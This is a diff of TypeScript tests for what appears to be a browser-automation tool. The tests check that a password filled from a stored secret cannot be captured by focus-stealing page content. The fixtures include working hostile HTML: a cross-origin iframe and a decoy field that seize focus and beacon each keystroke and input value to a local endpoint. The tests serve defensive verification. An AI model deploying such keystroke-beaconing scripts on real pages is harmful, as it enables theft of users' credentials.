@@ -255,3 +255,102 @@ describe('secrets a model never sees', () => {
     assert.ok(audit.some((l) => l.allowed === false && l.level === 40 && l.secret === 'other'));
   });
 });
+
+/** A frame script that takes focus every millisecond and beacons whatever reaches it. */
+const THIEF_FRAME = `<!doctype html><input id="steal"><script>
+  const steal = document.getElementById('steal');
+  const beacon = (kind, v) => fetch('/beacon?kind=' + kind + '&v=' + encodeURIComponent(v));
+  setInterval(() => steal.focus(), 1);
+  steal.addEventListener('input', () => beacon('input', steal.value));
+  addEventListener('keydown', (e) => beacon('keydown', e.key), true);
+</script>`;
+
+describe('a secret goes only into the field that was checked', () => {
+  const beacons = () => h.server.requests.filter((r) => r.startsWith('/beacon'));
+  let other: string;
+  before(() => {
+    // localhost is another origin of the same fixture server: a cross-origin frame.
+    other = `http://localhost:${h.server.port}`;
+    h.server.setContent('/thief-frame.html', THIEF_FRAME);
+    const page = (onFocus: string, extra = '') =>
+      `<!doctype html><title>Sign in</title>
+       <label for="pw">Password</label><input id="pw" type="password">${extra}
+       <iframe id="thief" src="${other}/thief-frame.html"></iframe>
+       <script>
+         const pw = document.getElementById('pw');
+         pw.addEventListener('focus', () => { ${onFocus} });
+       </script>`;
+    h.server.setContent('/thief-loop.html', page(''));
+    h.server.setContent(
+      '/thief-onfocus.html',
+      page("document.getElementById('thief').contentWindow.focus();"),
+    );
+    h.server.setContent(
+      '/thief-same-origin.html',
+      page(
+        "document.getElementById('decoy').focus();",
+        `<input id="decoy"><script>
+           const decoy = document.getElementById('decoy');
+           decoy.addEventListener('input', () => fetch('/beacon?kind=input&v=' + encodeURIComponent(decoy.value)));
+           decoy.addEventListener('keydown', (e) => fetch('/beacon?kind=keydown&v=' + e.key));
+         </script>`,
+      ),
+    );
+  });
+  after(() => h.closeBrowsers());
+
+  /** Fills the password and answers what a user would check: the result, the field, the beacons. */
+  async function fillOn(path: string, session: string) {
+    h.server.requests.length = 0;
+    await h.op('goto', { url: `${h.server.PREFIX}${path}` }, session);
+    // The frame's script is running (its focus loop) before the fill starts.
+    await h.op('wait_for', { ms: 300 }, session);
+    const r = await h.op(
+      'fill',
+      { target: { label: 'Password' }, secret: { name: 'admin', key: 'password' } },
+      session,
+    );
+    await h.op('wait_for', { ms: 300 }, session);
+    const held = await h.op(
+      'evaluate',
+      { script: "document.querySelector('#pw').value.length" },
+      session,
+    );
+    return { r: r.body, fieldLength: held.body.data?.result, beacons: beacons() };
+  }
+
+  test('a cross-origin frame that grabs focus every millisecond receives nothing; the field gets the value', async () => {
+    const { r, fieldLength, beacons } = await fillOn('/thief-loop.html', 'focus-loop');
+    assert.deepEqual(beacons, [], 'the frame heard a key or an input');
+    assert.equal(r.ok, true, JSON.stringify(r.error));
+    assert.equal(fieldLength, [...VALUE].length, 'the whole value is in the page’s own field');
+  });
+
+  test('a page that moves focus into a cross-origin frame when the field is focused is refused, naming the frame', async () => {
+    const { r, fieldLength, beacons } = await fillOn('/thief-onfocus.html', 'focus-frame');
+    assert.deepEqual(beacons, [], 'the frame heard a key or an input');
+    assert.equal(r.ok, false);
+    assert.equal(r.error?.kind, 'not_actionable');
+    assert.match(r.error!.message, /focus was taken/);
+    assert.match(r.error!.message, /iframe#thief \(a frame from http:\/\/localhost:\d+\)/);
+    assert.match(r.error!.message, /Nothing was typed/);
+    assert.equal(fieldLength, 0);
+  });
+
+  test('a same-origin field that steals focus gets nothing, and the refusal is audited', async () => {
+    const { r, fieldLength, beacons } = await fillOn('/thief-same-origin.html', 'focus-decoy');
+    assert.deepEqual(beacons, []);
+    assert.equal(r.ok, false);
+    assert.match(r.error!.message, /focus was taken from .* input#decoy holds it/);
+    assert.equal(fieldLength, 0);
+    const audit = readFileSync(logPath, 'utf8')
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>)
+      .filter((l) => l.event === 'secret_bind' && l.session === 'focus-decoy');
+    assert.deepEqual(
+      audit.map((l) => [l.allowed, l.level, l.reason]),
+      [[false, 40, 'focus was taken from the field, nothing was typed']],
+    );
+  });
+});
